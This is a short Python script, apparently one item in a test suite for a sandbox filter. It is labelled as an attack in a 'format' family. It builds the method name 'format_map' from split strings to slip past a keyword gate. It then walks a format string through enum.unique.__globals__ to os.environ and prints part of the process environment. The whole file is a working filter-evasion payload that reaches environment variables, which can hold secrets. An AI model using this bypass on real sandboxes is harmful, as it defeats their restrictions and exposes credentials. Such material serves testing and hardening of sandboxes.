# attack: str.format by a computed name: without the word .format in the script the gate does not look at its texts
# family: format
import enum
walk = getattr("{m.unique.__globals__[sys].modules[os].environ}", "for" + "mat_map")
print("REACHED", walk({"m": enum})[:60].split("(")[0])
